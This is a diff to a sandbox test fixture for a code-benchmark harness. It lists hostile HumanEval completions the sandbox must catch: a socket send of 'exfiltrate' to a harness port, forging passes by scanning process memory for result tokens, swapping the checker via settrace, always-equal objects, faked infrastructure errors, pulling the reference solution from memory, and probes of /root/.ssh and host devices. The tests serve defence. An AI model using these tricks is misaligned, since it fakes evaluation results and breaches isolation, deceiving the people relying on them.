@@ -5,13 +5,23 @@ Each completion continues the HumanEval/0 prompt (it starts inside the function
 body); hostile code after the body runs at module level, before the tests.
 Placeholders filled by ``render``: ``{port}`` (a loopback TCP server of the
 harness that must see no connection), ``{victim}`` (a file outside the sandbox
-that must survive), ``{outside}`` (a directory that must stay empty).
+that must survive), ``{outside}`` (a directory that must stay empty), ``{repo}``
+(this repository, which a program must not read).
 ``contained``: the entry is only safe to run once containment is verified
-(pids cgroup / PID namespace / no capabilities), see test_execution_hostile.py.
+(pids cgroup / PID namespace / an unprivileged uid), see tests/execution/test_hostile.py.
+``task_id``: the task the completion answers (HumanEval/0 unless the attack needs another).
+``runs``: how many times the completion is run in a row (attacks on what the next program sees).
+
+The attacks of the red-team pass (README, Execution sandbox): forging ``passed`` (token hunting
+in frames and memory, settrace, always-equal values, shadowed builtins, a redefined helper of
+the prompt, a forked reporter), laundering a wrong answer as ``infra_error``, a tree too deep to
+clean, finding another sample's code or a reference solution in memory, and reaching the host
+(keyrings, SysV shared memory, user namespaces, /root, the repository, devices, xattrs).
 """
 
 from __future__ import annotations
 
+import hashlib
 import socket
 import threading
 from dataclasses import dataclass
@@ -43,6 +53,8 @@ class Hostile:
     expected: Status
     contained: bool = False
     """True: run only where containment (pids cgroup, PID namespace) is verified."""
+    task_id: str = "HumanEval/0"
+    runs: int = 1
 
 
 def _after(body: str, code: str) -> str:
@@ -132,12 +144,15 @@ socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'exfiltrate'
     Hostile("closes_all_descriptors", _after(CORRECT, "import os\nos.closerange(0, 1024)"), Status.ERROR),
     Hostile("forked_copy_runs_tests", _after(CORRECT, "import os\nif os.fork():\n    os._exit(0)"),
             Status.ERROR, contained=True),
+    # It breaks its own process (the runner's code uses isinstance too): an error, never a pass.
     Hostile("replaces_builtins", _after(WRONG, "import builtins\n"
                                         "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
-                                        "builtins.isinstance = lambda *a: True"), Status.FAILED),
+                                        "builtins.isinstance = lambda *a: True"), Status.ERROR),
     Hostile("deep_recursion", _after(WRONG, "def f(n):\n    return f(n + 1)\nf(0)"), Status.ERROR),
-    Hostile("c_stack_overflow", _after(WRONG, "import sys\nsys.setrecursionlimit(10 ** 8)\nnested = []\n"
-                                       "for _ in range(10 ** 6):\n    nested = [nested]\nrepr(nested)"),
+    # Comparing two 300,000-deep lists recurses in C (no Python frames) and overflows the 8 MiB
+    # stack (RLIMIT_STACK) in a few milliseconds of descent; repr() would take seconds to get there.
+    Hostile("c_stack_overflow", _after(WRONG, "import sys\nsys.setrecursionlimit(10 ** 8)\na, b = [], []\n"
+                                       "for _ in range(300_000):\n    a, b = [a], [b]\na == b"),
             Status.ERROR),
     Hostile("ctypes_segfault", _after(WRONG, "import ctypes\nctypes.string_at(0)"), Status.ERROR),
     Hostile("kills_itself", _after(CORRECT, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
@@ -163,13 +178,230 @@ socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'exfiltrate'
                                               "threading.Thread(target=lambda: [0 for _ in iter(int, 1)],"
                                               " daemon=True).start()"), Status.PASSED),
     Hostile("null_byte_in_source", _after(CORRECT, "x = 1\x00"), Status.SYNTAX_ERROR),
+    # --- forging a pass --------------------------------------------------------------------
+    Hostile("token_from_frames_and_memory", _after(WRONG, """
+import gc, os, re, sys
+found = set()
+frame = sys._getframe()
+while frame is not None:
+    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
+        raw = value.encode() if isinstance(value, str) else value
+        if isinstance(raw, bytes) and re.fullmatch(rb'[0-9a-f]{32}', raw):
+            found.add(raw)
+    frame = frame.f_back
+for obj in gc.get_objects():
+    if isinstance(obj, bytes) and re.fullmatch(rb'[0-9a-f]{32}', obj):
+        found.add(obj)
+with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
+    for line in maps:
+        start, end = (int(x, 16) for x in line.split()[0].split('-'))
+        if 'r' not in line.split()[1] or end - start > 1 << 26:
+            continue
+        try:
+            mem.seek(start)
+            found.update(re.findall(rb'(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])', mem.read(end - start)))
+        except (OSError, ValueError, OverflowError):
+            pass
+for fd in range(3, 64):
+    for token in found:
+        try:
+            os.write(fd, b'P' + token + b'\\n')
+        except OSError:
+            break
+os._exit(0)
+"""), Status.ERROR),
+    Hostile("settrace_swaps_check", _after(WRONG, """
+import sys
+def tracer(frame, event, arg):
+    if 'check' in frame.f_globals:
+        frame.f_globals['check'] = lambda candidate: None
+    return tracer
+sys.settrace(tracer)
+"""), Status.FAILED),
+    Hostile("always_equal_result", """    class AlwaysEqual:
+        def __eq__(self, other):
+            return True
+        def __ne__(self, other):
+            return False
+        __hash__ = object.__hash__
+    return AlwaysEqual()
+""", Status.ERROR),
+    Hostile("shadowed_builtin_abs", """    return 0.5
+
+
+import builtins
+builtins.abs = lambda x: 0
+abs = lambda x: 0
+""", Status.FAILED, task_id="HumanEval/2"),
+    Hostile("helper_redefinition", """    return s
+
+
+def encode_cyclic(s: str):
+    return s
+""", Status.FAILED, task_id="HumanEval/38"),
+    Hostile("forked_reporter_stays", _after(CORRECT, """
+import os, time
+if os.fork() == 0:
+    time.sleep(0.2)  # the copy answers in place of its parent, which leaves at once
+else:
+    os._exit(0)
+"""), Status.ERROR, contained=True),
+    # --- infra_error laundering ------------------------------------------------------------
+    Hostile("writes_infra_lines", _after(WRONG, """
+import os
+for fd in range(0, 64):
+    try:
+        os.write(fd, b'IRuntimeError\\tsandbox setup failed\\n')
+    except OSError:
+        pass
+"""), Status.ERROR),
+    Hostile("infra_line_then_exit", _after(WRONG, """
+import os
+for fd in range(3, 64):
+    try:
+        os.write(fd, b'IOSError\\tno space\\n')
+    except OSError:
+        pass
+os._exit(111)
+"""), Status.ERROR),
+    # --- one sample spoiling the next ------------------------------------------------------
+    Hostile("deep_directory_tree", _after(CORRECT, """
+import os
+for _ in range(1500):
+    os.mkdir('d')
+    os.chdir('d')
+"""), Status.PASSED),
+    Hostile("xattrs_carry_data", _after(CORRECT, """
+import os
+for where in ('/tmp', '/dev/shm', os.getcwd()):
+    try:
+        assert b'from an earlier program' not in os.getxattr(where, 'user.evalkit'), where
+    except OSError:
+        pass
+    try:
+        os.setxattr(where, 'user.evalkit', b'from an earlier program')
+    except OSError:
+        pass
+"""), Status.PASSED, runs=2),
+    Hostile("sysv_shm_persists", _after(CORRECT, """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+KEY, IPC_CREAT = 0x0E7A11, 0o1000
+assert libc.shmget(KEY, 4096, 0) == -1, "an earlier program's shared memory is here"
+assert libc.shmget(KEY, 4096, IPC_CREAT | 0o666) >= 0
+"""), Status.PASSED, runs=2),
+    # --- other samples and the reference ---------------------------------------------------
+    Hostile("carries_marker", _after(CORRECT, "MARKER = '__MARKER__'"), Status.PASSED),
+    Hostile("searches_marker", _after(CORRECT, """
+import hashlib
+HEAD, SIZE, WANT = b'EVALKIT-CROSS-SAMPLE', __MARKER_SIZE__, '__MARKER_HASH__'
+def memory():
+    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
+        for line in maps:
+            start, end = (int(x, 16) for x in line.split()[0].split('-'))
+            if 'r' in line.split()[1] and end - start < 1 << 26:
+                try:
+                    mem.seek(start)
+                    yield mem.read(end - start)
+                except (OSError, ValueError, OverflowError):
+                    pass
+for chunk in memory():
+    at = chunk.find(HEAD)
+    while at >= 0:
+        assert hashlib.sha256(chunk[at:at + SIZE]).hexdigest() != WANT, "found another sample's code"
+        at = chunk.find(HEAD, at + 1)
+"""), Status.PASSED),
+    Hostile("finds_reference_solution", """    import hashlib
+    HEAD, SIZE, WANT = b'    if not string:', __REF_SIZE__, '__REF_HASH__'
+    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
+        for line in maps:
+            start, end = (int(x, 16) for x in line.split()[0].split('-'))
+            if 'r' not in line.split()[1] or end - start > 1 << 26:
+                continue
+            try:
+                mem.seek(start)
+                chunk = mem.read(end - start)
+            except (OSError, ValueError, OverflowError):
+                continue
+            at = chunk.find(HEAD)
+            while at >= 0:
+                if hashlib.sha256(chunk[at:at + SIZE]).hexdigest() == WANT:
+                    scope = {'is_palindrome': is_palindrome, 'string': string}
+                    exec('def f(string):\\n' + chunk[at:at + SIZE].decode(), scope)
+                    return scope['f'](string)
+                at = chunk.find(HEAD, at + 1)
+    return string
+""", Status.FAILED, task_id="HumanEval/10"),
+    # --- the host ---------------------------------------------------------------------------
+    Hostile("keyring_add_key", _after(CORRECT, """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+SYS_ADD_KEY, KEY_SPEC_USER_KEYRING = 248, -4
+key = libc.syscall(SYS_ADD_KEY, b'user', b'evalkit-hostile', b'persist me', 10, KEY_SPEC_USER_KEYRING)
+assert key == -1, "add_key"
+"""), Status.PASSED),
+    Hostile("unshare_user_namespace", _after(CORRECT, """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+assert libc.unshare(0x10000000) == -1, "unshare(CLONE_NEWUSER) allowed"
+assert libc.unshare(0x10000000 | 0x00020000) == -1, "unshare(CLONE_NEWUSER | CLONE_NEWNS) allowed"
+"""), Status.PASSED),
+    Hostile("reads_root_repository_runs", _after(CORRECT, """
+import os, sys
+readable = []
+for path in ('/root/.ssh', '/root/.bashrc', '/root/.profile', '/work',
+             '{repo}', '{repo}/README.md', '{repo}/reports'):
+    try:
+        if os.path.isdir(path):
+            os.listdir(path)
+        else:
+            open(path, 'rb').read(1)
+        readable.append(path)
+    except OSError:
+        pass
+assert not readable, readable
+# /root holds at most the way to the interpreter (pyenv keeps it there)
+if os.path.isdir('/root'):
+    assert all(sys.prefix.startswith(os.path.join('/root', name)) for name in os.listdir('/root'))
+"""), Status.PASSED),
+    Hostile("opens_host_devices", _after(CORRECT, """
+import glob, os
+opened = []
+devices = ['/dev/kvm', '/dev/kmsg', '/dev/fuse', '/dev/loop-control', '/dev/mem', '/dev/sda', '/dev/vda']
+for path in devices + glob.glob('/dev/loop*'):
+    try:
+        os.close(os.open(path, os.O_RDWR))
+        opened.append(path)
+    except OSError:
+        pass
+assert not opened, opened
+"""), Status.PASSED),
 )
+
+
+MARKER = "EVALKIT-CROSS-SAMPLE" + "-MARKER-5d1e"
+"""In one sample's code only: another sample looking for it in its memory must not find it."""
+
+
+def _reference_of(task_id: str) -> str:
+    from evalkit.benchmarks import load_tasks  # noqa: PLC0415 - only where the table is rendered
+    from evalkit.config import DatasetConfig  # noqa: PLC0415
+
+    return next(t.reference for t in load_tasks(DatasetConfig()) if t.task_id == task_id)
 
 
 def render(hostile: Hostile, port: int, victim: str, outside: str) -> str:
     """The completion with its placeholders filled."""
-    return (hostile.completion.replace("{port}", str(port)).replace("{victim}", victim)
-            .replace("{outside}", outside))
+    from tests.support.cli import REPO  # noqa: PLC0415 - the repository a program must not read
+
+    text = (hostile.completion.replace("{port}", str(port)).replace("{victim}", victim)
+            .replace("{outside}", outside).replace("{repo}", str(REPO)))
+    if "__REF_" in text:
+        reference = _reference_of(hostile.task_id).encode()
+        text = text.replace("__REF_SIZE__", str(len(reference)))
+        text = text.replace("__REF_HASH__", hashlib.sha256(reference).hexdigest())
+    return (text.replace("__MARKER_SIZE__", str(len(MARKER))).replace("__MARKER_HASH__",
+            hashlib.sha256(MARKER.encode()).hexdigest()).replace("__MARKER__", MARKER))
 
 
 CFG = ExecutorConfig(workers=2, timeout_s=1.0, wall_factor=3.0, memory_mb=512, max_processes=32,
@@ -208,13 +440,19 @@ def worker_cgroups(ex: LocalExecutor) -> list[Path]:
     return [w.cgroup for w in ex._workers if w.cgroup is not None]
 
 
+def idle_processes(ex: LocalExecutor) -> int:
+    """Processes in a worker's cgroup between programs: the outer process, the worker, the
+    spawner and one test process per slot."""
+    return 3 + ex.cfg.max_in_flight
+
+
 def containment_problem(ex: LocalExecutor) -> str | None:
     """Why dangerous programs must not run here, or None when containment is verified."""
-    needed = ("pidns", "no-caps", "pids-cgroup")
+    needed = ("pidns", "uid", "pids-cgroup")
     missing = [tier for tier in needed if tier not in ex.isolation.split("+")]
     if missing:
         return f"containment missing ({', '.join(missing)}; isolation={ex.isolation})"
     for cgroup in worker_cgroups(ex):
-        if int((cgroup / "pids.max").read_text()) != CFG.max_processes + 2:
+        if int((cgroup / "pids.max").read_text()) != ex.cfg.max_in_flight * (ex.cfg.max_processes + 1) + 3:
             return f"pids cgroup {cgroup} has no limit"
     return None
